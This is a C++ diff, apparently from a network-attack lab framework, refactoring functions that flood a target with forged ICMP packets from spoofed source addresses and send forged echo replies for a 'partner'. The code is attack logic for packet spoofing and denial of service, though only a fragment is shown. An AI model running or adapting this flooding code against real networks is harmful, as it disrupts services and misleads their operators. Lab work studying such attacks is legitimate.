@@ -1,5 +1,6 @@
 #include "lab/campaigns/hostile/IcmpForgery.h"
 
+#include <algorithm>
 #include <thread>
 
 #include <netinet/ip_icmp.h>
@@ -20,8 +21,8 @@ constexpr int packetsAtOnce = 20;
 void flood(const AttackParameters& parameters, AttackTally& tally, std::uint8_t type)
 {
 	RawSender sender;
-	const std::vector<std::string> sources = sourcesNamed(parameters.target, parameters.payload);
-	const std::string target = targetsAddress(parameters, Network::communication);
+	std::vector<std::string> sources = sourcesNamed(parameters.target, parameters.payload);
+	std::ranges::replace(sources, partnersAddress(parameters), parameters.partner);
 	std::uint16_t id = 0; // of one agent in 65536
 	while (!parameters.stop)
 	{
@@ -29,7 +30,7 @@ void flood(const AttackParameters& parameters, AttackTally& tally, std::uint8_t 
 		{
 			for (const std::string& source : sources)
 			{
-				sender.sendIcmp(target, source, type, ++id, tally);
+				sender.sendIcmp(parameters.at, source, type, ++id, tally);
 			}
 		}
 		std::this_thread::sleep_for(Millis(1));
@@ -67,8 +68,7 @@ void answerForPartner(const AttackParameters& parameters, AttackTally& tally)
 	const auto id = static_cast<std::uint16_t>(std::stoul(parameters.payload));
 	while (!parameters.stop)
 	{
-		sender.sendIcmp(targetsAddress(parameters, Network::communication), partnersAddress(parameters), ICMP_ECHOREPLY,
-		                id, tally);
+		sender.sendIcmp(parameters.at, parameters.partner, ICMP_ECHOREPLY, id, tally);
 		std::this_thread::sleep_for(Millis(10));
 	}
 }
